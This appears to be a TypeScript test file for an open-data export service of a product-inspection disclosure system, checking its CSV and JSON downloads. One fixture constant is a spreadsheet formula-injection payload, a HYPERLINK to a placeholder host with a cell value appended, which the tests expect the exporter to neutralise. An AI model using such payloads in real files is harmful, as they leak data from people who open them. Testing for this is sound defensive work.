import { ResultFinal } from '@qis/contracts';
import { startTestService, type TestService } from '@qis/testing';
import type { DisclosureConfig } from '../disclosure.config';
import { disclosureService } from '../disclosure.definition';
import type { PublicResultView } from '../publication/public-result.view';
import { DisclosureFixture } from '../test-support/disclosure-fixture';
import { resultFinal } from '../test-support/result-final.factory';
import { RESULT_FIELDS, STATISTICS_FIELDS } from './dataset-schema';

const FORMULA_ITEM = '=HYPERLINK("http://x.invalid/?"&A1,"蚕丝含量")';

let service: TestService<DisclosureConfig>;
let fx: DisclosureFixture;

const raw = async (
  path: string,
): Promise<{ status: number; type: string | null; disposition: string | null; bytes: Buffer }> => {
  const res = await fetch(`${service.url}${path}`);
  return {
    status: res.status,
    type: res.headers.get('content-type'),
    disposition: res.headers.get('content-disposition'),
    bytes: Buffer.from(await res.arrayBuffer()),
  };
};

/** Splits RFC 4180 text into records (quoted fields may hold commas, quotes and line breaks). */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      record.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i++;
    } else field += c;
  }
  return records;
}

beforeAll(async () => {
  service = await startTestService(disclosureService);
  fx = new DisclosureFixture(service);
  await fx.emit(
    ResultFinal,
    'HZ2026-400001',
    resultFinal('HZ2026-400001', {
      seller: { name: '开放数据"引号",逗号店' },
      claimed: { specModel: '=1+2 型' },
      // A list whose first item a spreadsheet would run as a formula.
      failingItems: [FORMULA_ITEM, '纤维含量'],
    }),
  );
  await fx.emit(
    ResultFinal,
    'HZ2026-400002',
    resultFinal('HZ2026-400002', {
      seller: { name: '开放数据合格店' },
      verdict: 'pass',
      failingItems: [],
      platform: null,
    }),
  );
  await fx.awaitResults('q=%E5%BC%80%E6%94%BE%E6%95%B0%E6%8D%AE', 2);
}, 120_000);

afterAll(async () => {
  await fx?.stop();
  await service?.stop();
});

describe('open data', () => {
  it('exports the results as CSV in UTF-8 with a BOM, one column per schema field, escaped and formula-safe', async () => {
    const csv = await raw('/open-data/results.csv');
    expect(csv.status).toBe(200);
    expect(csv.type).toBe('text/csv; charset=utf-8');
    expect(csv.disposition).toBe('attachment; filename="qis-results.csv"');
    expect([...csv.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const [header, ...rows] = parseCsv(csv.bytes.toString('utf8').slice(1));
    expect(header).toEqual(RESULT_FIELDS.map((f) => f.name));
    expect(rows).toHaveLength(2);
    const fail = rows.find((r) => r[header.indexOf('verdict')] === 'fail') as string[];
    const col = (name: string): string => fail[header.indexOf(name)] as string;
    expect(col('sellerName')).toBe('开放数据"引号",逗号店');
    expect(col('specModel')).toBe("'=1+2 型");
    expect(col('mainNonconformingItems')).toBe(`'${FORMULA_ITEM}；纤维含量`);
    expect(col('regionName')).toBe('浙江省杭州市西湖区');
    const pass = rows.find((r) => r[header.indexOf('verdict')] === 'pass') as string[];
    expect(pass[header.indexOf('platform')]).toBe('');
  });

  it('offers Chinese headers and the list filters on the CSV', async () => {
    const csv = await raw('/open-data/results.csv?header=zh&verdict=pass');
    const [header, ...rows] = parseCsv(csv.bytes.toString('utf8').slice(1));
    expect(header?.slice(0, 7)).toEqual([
      '公示编号',
      '版本',
      '公示类型',
      '状态',
      '更正前公示编号',
      '被抽样网络商品经营者',
      '样品名称',
    ]);
    expect(rows).toHaveLength(1);
    expect((await raw('/open-data/results.csv?header=fr')).status).toBe(400);
  });

  it('exports the results as JSON with the same fields as the public API', async () => {
    const json = await fx.get<{
      dataset: string;
      schemaVersion: number;
      count: number;
      items: PublicResultView[];
    }>('/open-data/results.json');
    expect(json).toMatchObject({ dataset: 'results', schemaVersion: 1, count: 2 });
    expect(Object.keys(json.items[0] as object).sort()).toEqual(
      RESULT_FIELDS.map((f) => f.name)

        .sort(),
    );
  });

  it('exports statistics as CSV (rates with their intervals flattened) and JSON, by any dimension', async () => {
    const csv = await raw('/open-data/statistics.csv?by=category');
    expect([...csv.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(csv.disposition).toBe('attachment; filename="qis-statistics-category.csv"');
    const [header, silk, total] = parseCsv(csv.bytes.toString('utf8').slice(1));
    expect(header).toEqual(STATISTICS_FIELDS.map((f) => f.name));
    const col = (r: string[] | undefined, name: string): string =>
      (r as string[])[(header as string[]).indexOf(name)] as string;
    expect([
      col(silk, 'by'),
      col(silk, 'key'),
      col(silk, 'label'),
      col(silk, 'tested'),
      col(silk, 'failed'),
    ]).toEqual(['category', 'silk-quilt', '蚕丝被', '2', '1']);
    expect(Number(col(silk, 'passRate'))).toBe(0.5);
    expect(Number(col(silk, 'passRateLow'))).toBeCloseTo(0.0945, 3);
    expect(col(silk, 'smallSample')).toBe('true');
    expect([col(total, 'key'), col(total, 'label')]).toEqual(['all', '合计']);

    const json = await fx.get<{ dataset: string; by: string; rows: unknown[] }>(
      '/open-data/statistics.json?by=month',
    );
    expect(json).toMatchObject({ dataset: 'statistics', by: 'month' });
    expect((await raw('/open-data/statistics.csv')).status).toBe(400);
  });

  it('documents every public route in the OpenAPI document, the CSV exports as text/csv', async () => {
    const doc = await fx.get<{
      paths: Record<string, Record<string, { responses: Record<string, { content?: object }> }>>;
    }>('/docs-json');
    for (const p of [
      '/public/results',
      '/public/results/{id}',
      '/public/notices',
      '/public/facets',
      '/public/statistics',
      '/open-data/schema',
      '/open-data/results.json',
      '/open-data/statistics.json',
      '/publications/{id}/corrections',
      '/publications/{id}/withdrawal',
    ]) {
      expect(Object.keys(doc.paths)).toContain(p);
    }
    for (const csv of ['/open-data/results.csv', '/open-data/statistics.csv']) {
      expect(Object.keys(doc.paths[csv]?.['get']?.responses['200']?.content ?? {})).toEqual(['text/csv']);
    }
  });

  it('publishes the schema of every data set', async () => {
    const schema = await fx.get<{ results: Array<{ name: string; zh: string }>; statistics: unknown[] }>(
      '/open-data/schema',
    );
    expect(schema.results.map((f) => f.name)).toEqual(RESULT_FIELDS.map((f) => f.name));
    expect(schema.statistics).toHaveLength(STATISTICS_FIELDS.length);
  });
});
